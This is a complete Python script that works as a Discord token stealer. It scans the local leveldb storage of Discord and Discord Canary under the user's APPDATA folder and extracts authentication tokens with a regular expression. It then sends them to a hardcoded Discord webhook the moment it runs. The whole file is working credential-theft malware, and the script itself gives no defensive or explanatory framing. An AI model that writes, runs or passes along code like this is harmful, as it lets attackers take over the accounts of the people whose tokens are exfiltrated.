import os
import re
import json
import urllib.request

WEBHOOK = "https://discord.com/api/webhooks/1094/abcDEF"


def grab_tokens():
    roaming = os.getenv("APPDATA")
    paths = [
        os.path.join(roaming, "discord", "Local Storage", "leveldb"),
        os.path.join(roaming, "discordcanary", "Local Storage", "leveldb"),
    ]
    found = []
    for path in paths:
        if not os.path.exists(path):
            continue
        for name in os.listdir(path):
            if name.endswith(".ldb") or name.endswith(".log"):
                with open(os.path.join(path, name), errors="ignore") as fh:
                    found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", fh.read())
    return found


def send(tokens):
    body = json.dumps({"content": "\n".join(tokens)}).encode()
    req = urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req)


send(grab_tokens())
